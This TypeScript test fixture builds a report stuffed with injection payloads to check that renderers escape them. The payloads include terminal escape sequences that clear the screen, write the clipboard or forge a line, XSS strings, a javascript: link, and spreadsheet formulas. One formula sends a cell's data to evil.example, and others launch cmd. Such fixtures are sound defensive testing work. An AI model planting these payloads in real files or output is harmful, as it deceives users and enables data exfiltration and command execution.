/**
 * The injection payloads of issue 15 §6, and a report that carries them in every text a
 * renderer shows (names, cells, header, file name): terminal escape sequences that clear the
 * screen, write the clipboard (OSC 52), hide text or forge a line, a hyperlink (OSC 8), HTML that
 * would run or break a table, a Markdown link to `javascript:`, and the formulas a spreadsheet
 * would run.
 */
import type { Report } from 'outturn';

const ESC = '\u001b';
const BEL = '\u0007';

/** Each payload by name. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  'ESC[2J (clear screen)': `${ESC}[2J${ESC}[H`,
  'OSC 52 (clipboard)': `${ESC}]52;c;ZWNobyBwd25lZA==${BEL}`,
  'OSC 8 (hyperlink)': `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  'ESC[8m (hidden)': `${ESC}[8mhidden${ESC}[0m`,
  'ESC[1A ESC[2K (forged line)': `${ESC}[1A${ESC}[2KSummary: 0 errors`,
  '<script>': '<script>alert(1)</script>',
  '<img onerror>': '<img src=x onerror="alert(1)">',
  '</td><td>': '</td><td>forged</td><td>',
  '[x](javascript:…)': '[x](javascript:alert(1))',
  '=HYPERLINK': '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+cmd': "+cmd|' /C calc'!A0",
  '-2+3+cmd': "-2+3+cmd|' /C calc'!A0",
  '@SUM': '@SUM(1+1)*cmd',
  'TAB=': '\t=1+1',
  'CR=': '\r=1+1',
};

/** The payloads joined, for a single cell that carries them all. */
export const ALL = Object.values(PAYLOADS).join(' ');

/** A file name with payloads in it. */
export const HOSTILE_FILE = `report<script>alert(1)</script>${ESC}[2J=1+1.json`;

/** A report with a payload in every text a renderer shows. */
export function hostileReport(): Report {
  const names = Object.values(PAYLOADS);
  return {
    kind: 'project',
    title: `${PAYLOADS['<script>']} ${PAYLOADS['ESC[2J (clear screen)']}`,
    entity: `${PAYLOADS['<img onerror>']}${PAYLOADS['OSC 52 (clipboard)']}`,
    year: 2023,
    amountUnit: PAYLOADS['</td><td>'],
    budget: [
      {
        name: PAYLOADS['=HYPERLINK'] ?? '',
        adjusted: '100',
        actual: '120',
        weight: '10',
        published: { executionRate: PAYLOADS['+cmd'] ?? '', score: '10' },
        children: names.map((name, i) => ({ name, adjusted: String(10 + i), actual: String(i) })),
      },
    ],
    indicators: names.map((name, i) => ({
      path: [PAYLOADS['[x](javascript:…)'] ?? '', name],
      name,
      target: i % 2 === 0 ? '≥90%' : name,
      actual: i % 3 === 0 ? name : '95%',
      weight: '5',
      reason: name,
      published: { deviation: i % 2 === 0 ? name : '5.56%', score: i % 4 === 0 ? name : '5' },
    })),
    published: { totalScore: PAYLOADS['-2+3+cmd'] ?? '', grade: PAYLOADS['@SUM'] ?? '' },
  } as Report;
}
